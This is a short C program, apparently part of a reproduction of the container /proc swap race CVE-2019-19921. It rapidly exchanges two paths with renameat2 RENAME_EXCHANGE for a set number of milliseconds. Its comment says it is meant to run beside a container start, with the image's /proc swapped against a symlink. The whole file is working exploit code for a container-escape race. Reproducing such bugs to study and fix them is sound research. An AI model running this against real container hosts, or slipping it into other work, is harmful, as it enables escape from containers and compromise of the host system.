/* swapdir A B MS: exchange the names A and B (renameat2 RENAME_EXCHANGE)
 * as fast as possible for MS milliseconds, then leave them as they were.
 * The attacker of the /proc swap race (CVE-2019-19921): run beside a
 * container start, with A the image's /proc and B a symlink. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

static long long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: swapdir A B MS\n");
		return 2;
	}
	long long end = now_ms() + atoll(argv[3]);
	unsigned long n = 0;
	while (now_ms() < end) {
		for (int i = 0; i < 64; i++, n++)
			if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 1;
			}
	}
	if (n % 2 && renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
		perror("renameat2");
		return 1;
	}
	printf("%lu swaps\n", n + n % 2);
	return 0;
}
